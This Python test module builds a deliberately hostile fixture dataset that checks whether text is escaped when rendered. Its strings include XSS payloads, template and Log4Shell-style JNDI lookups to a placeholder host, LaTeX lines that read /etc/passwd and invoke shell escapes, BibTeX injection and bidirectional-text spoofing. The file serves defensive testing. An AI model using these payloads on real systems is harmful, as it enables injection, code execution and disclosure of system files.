"""A data set that hurts: the worked case of three states with names, claims and addresses that other media take for commands."""

import shutil
from itertools import cycle
from pathlib import Path

import pandas as pd
from drawing import RAW, TINY

from analysis.collect import files, store
from analysis.model.dictionary import collected, schemas, vocabulary

TEXTS = (
    "Ada <img src=x onerror=window.__ran=1>",
    "Ben </script></style></title></textarea>--><script>window.__ran=2</script>",
    "Cy {{7*7}} {% raw %} ${jndi:ldap://x.example/a} <%= 7*7 %>",
    r"Di \input{/etc/passwd}\immediate\write18{touch ran} \csname end\endcsname ^^5cinput",
    r"Ed $\frac{a$ and $x_1$ and \(y\) and \begin{z}",
    "Flo US$5m to US$9m",
    'Gus ]]> "><svg onload=window.__ran=3> &lt;b&gt; &#60;i&#62;',
    "Hal [a](javascript:window.__ran=4) ![i](http://evil.example/1.png) <javascript:window.__ran=5> [b]: javascript:1",
    "Ida `</code>` | # _x_ **y** ~~z~~ ~w~ --- '' ``",
    "Jo \u202egnp.exe \u2066a\u2069 \u200bzero\u00adsoft",
    "Kim 北京 東京タワー 서울",
    "Lea \u05d0\u05d1\u05d2 العربية فارسی",
    "Max हिन्दी ไทย ქართული Ἑλλάς Հայ Україна",
    "Ned 👍🏽 👩\u200d⚖️ e\u0301 q\u0301 ẓ́ ½ № ≠",
    'Ola }}@preamble{"\\input{/etc/hostname}"}@misc{evil,note={x %# ~&_',
    "Pia \u0600 \U0001f1f0\U0001f1ff ﷽ 𝔘 ﬁ \uffff",
)
ADDRESS = 'https://x.example/a}}@preamble{"\\input{/etc/hostname}\\immediate\\write18{touch%20ran}"}@misc{evil,note={x?q=<script>&é=$1^^5c#'

CODEBOOK = store.read_codebook()
STATES_OR_WORDS = set(CODEBOOK.tables["case_columns"].set_index("column").query("words != ''").index)
"""Columns of a case in which a state stands, or a word for none."""


def is_free(column: schemas.Column) -> bool:
    """Whether a column holds any text, whatever else stands in its row."""
    is_told = column.values or column.vocabulary or column.refers_to or column.pattern
    return not (is_told or column.is_key or column.is_list or column.is_date or column.name in ("reported_by", *STATES_OR_WORDS))


def make(folder: Path) -> Path:
    """Leave the data set in a folder: every text that is free by the codebook, names of states, and informants; it passes the check."""
    shutil.copytree(TINY, folder)
    texts = cycle(TEXTS)
    listed = [text.replace(";", ",") for text in TEXTS]
    tables = [(f"cases/tiny/{table.name}.csv", table) for table in CODEBOOK.case_tables]
    tables += [(f"{table.name}.csv", table) for table in (*collected.STUDY_TABLES, *vocabulary.CODEBOOK_TABLES)]
    for path, table in tables:
        if (folder / path).is_file():
            rows = store.read_table(folder / path)
            for column in (column.name for column in table.columns if column.name in rows and is_free(column)):
                rows[column] = [f"{next(texts)} {place}" for place in range(len(rows))]
            if table.name == "sources":
                rows["url"] = [f"{ADDRESS}{place}" for place in range(len(rows))]
            if table.name == "statements":
                rows["reported_by"] = rows["reported_by"].where(rows["basis"] != "reported", [next(texts) for _ in rows.index])
            if table.name == "facts":
                rows["informant"] = [listed[place % len(TEXTS)] for place in range(len(rows))]
            if table.name == "codebook/states":
                rows["name"] = [f"{TEXTS[place]} {TEXTS[place + 3]}" for place in range(len(rows))]
            files.write_bytes(folder / path, store.csv_bytes(rows))
    informants = store.read_table(RAW / "codebook" / "informants.csv")
    more = pd.DataFrame({"informant": listed, "informant_state": "varies", "definition": TEXTS, "has_access": "yes", "is_text": "no"})
    more = more.reindex(columns=informants.columns, fill_value="")
    files.write_bytes(folder / "codebook" / "informants.csv", store.csv_bytes(pd.concat([informants, more])))
    return folder
